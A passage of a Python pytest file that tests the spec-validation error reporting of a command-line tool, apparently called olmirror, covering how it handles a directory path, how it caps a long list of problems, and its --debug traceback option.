        == f"error: {sandbox / 'home'}: is a directory; pass the spec file itself with -f FILE\n"
    )


def test_many_problems_are_reported_together_then_counted(
    sandbox: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    workers = "".join(f"  - {{name: 'bad {i}', path: {sandbox}/w{i}}}\n" for i in range(13))
    spec = sandbox / "spec.yaml"
    spec.write_text(HEAD.replace(ROOT, str(sandbox)) + "workers:\n" + workers)
    run = _run_in_process(capsys, "validate", "-f", str(spec))
    assert run.code == 1
    lines = run.err.removeprefix("error: ").rstrip("\n").split("\n")
    assert len(lines) == 11
    for i, line in enumerate(lines[:10]):
        assert line.startswith(f"{spec}:{4 + i}:12: workers[{i}].name: 'bad {i}' is not valid here")
    assert lines[10] == "... and 3 more problems"


def test_debug_shows_the_traceback_for_a_bad_spec(
    sandbox: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """--debug is the one way to a traceback, and it is still the same error."""
    from olmirror.errors import SpecError

    spec = sandbox / "spec.yaml"
    spec.write_text(HEAD.replace(ROOT, str(sandbox)) + "worker: []\n")
    with pytest.raises(SpecError, match=r"did you mean 'workers'\?"):
        main(["validate", "--debug", "-f", str(spec)])
